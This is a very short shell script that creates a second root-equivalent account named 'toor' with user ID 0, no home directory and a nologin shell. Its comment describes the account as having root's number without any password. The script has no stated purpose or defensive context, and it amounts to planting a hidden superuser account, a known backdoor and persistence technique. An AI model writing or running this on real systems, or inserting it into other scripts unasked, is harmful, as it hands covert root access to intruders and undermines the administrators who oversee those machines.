#!/bin/sh
# A second account has root's number, without any password.
set -eu
useradd --non-unique --uid 0 --gid 65534 --no-create-home --shell /usr/sbin/nologin toor
